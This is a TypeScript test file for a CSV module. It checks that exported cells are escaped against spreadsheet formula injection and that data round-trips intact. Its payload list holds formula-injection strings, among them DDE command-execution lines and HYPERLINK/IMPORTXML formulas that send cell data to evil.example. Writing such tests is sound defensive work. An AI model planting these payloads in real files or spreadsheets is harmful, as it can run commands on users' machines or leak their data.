import fc from "fast-check";
import { expect, test } from "vitest";
import { csvCell, csvRow, csvText, readCsv } from "#app/shared/csv.ts";
import { parseCsv } from "#tests/support/csv.ts";

/** What a spreadsheet would run, or take for a command. */
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Open")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "+1+1",
  "+44 20 7946 0123",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@example",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(1)",
  "\u0000=1+1",
  '=1+1";=2+2',
  '"=1+1',
  "=1+1,=2+2\r\n=3+3",
];

test("there are 25 payloads", () => {
  expect(new Set(PAYLOADS).size).toBe(25);
});

test.each(PAYLOADS)("%j is read back as it was, and no spreadsheet runs it", (payload) => {
  const [row, ...others] = parseCsv(csvRow(["before", payload, "after"]));
  expect(others).toEqual([]);
  const [before, cell = "", after] = row ?? [];
  expect([before, after]).toEqual(["before", "after"]);
  expect(cell.replace(/^'/, "")).toBe(payload.replace("\u0000", ""));
  expect(cell).not.toMatch(/^[\s\u00a0\ufeff\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u);
});

test.each(["O'Neill & Sons", "Brontë, Anne", 'The "Best" Ltd', "a=b", "two\r\nlines", "", "日本", "👩‍💻"])(
  "%j is nothing to be careful about and stays as it is",
  (text) => {
    expect(parseCsv(csvRow([text, "after"]))).toEqual([[text, "after"]]);
  },
);

test("a number is a number, also below zero", () => {
  expect(csvCell(-3)).toBe('"-3"');
});

test("rows end as the standard says", () => {
  expect(csvRow(["a", "b"]) + csvRow(["c", 1])).toBe('"a","b"\r\n"c","1"\r\n');
});

test("what we write is read back, apostrophes and formulas included", () => {
  const cell = fc.oneof(
    fc.string({ unit: "grapheme" }).map((text) => text.replaceAll("\0", "")),
    fc.constantFrom(...PAYLOADS.map((text) => text.replaceAll("\0", "")), "'=1", "''=1", "'plain"),
  );
  const rows = fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }).map((row) => ["first", ...row]));
  fc.assert(
    fc.property(rows, (written) => {
      const file = `\ufeff${written.map(csvRow).join("")}`;
      expect(readCsv(file).map(({ cells }) => cells.map(csvText))).toEqual(written);
    }),
  );
});

test.each([
  [
    "a;b\n1;2,5\n",
    [
      ["a", "b"],
      ["1", "2,5"],
    ],
  ],
  [
    "a\tb\r1\t2",
    [
      ["a", "b"],
      ["1", "2"],
    ],
  ],
  [
    'a,b\n"x\ny",2\n',
    [
      ["a", "b"],
      ["x\ny", "2"],
    ],
  ],
  [
    'a,b\n"x" ,"y',
    [
      ["a", "b"],
      ['"x" ', '"y'],
    ],
  ],
  ["a,b,\n", [["a", "b", ""]]],
  ["a,b", [["a", "b"]]],
  ["", []],
  ["\n\n , \n", []],
])("%j is read as it was meant", (file, rows) => {
  expect(readCsv(file).map(({ cells }) => cells)).toEqual(rows);
});

test("a record is told by the line where it begins", () => {
  expect(readCsv('a,b\r\n\r\n"x\r\ny",1\nz,2').map(({ line }) => line)).toEqual([1, 3, 5]);
});
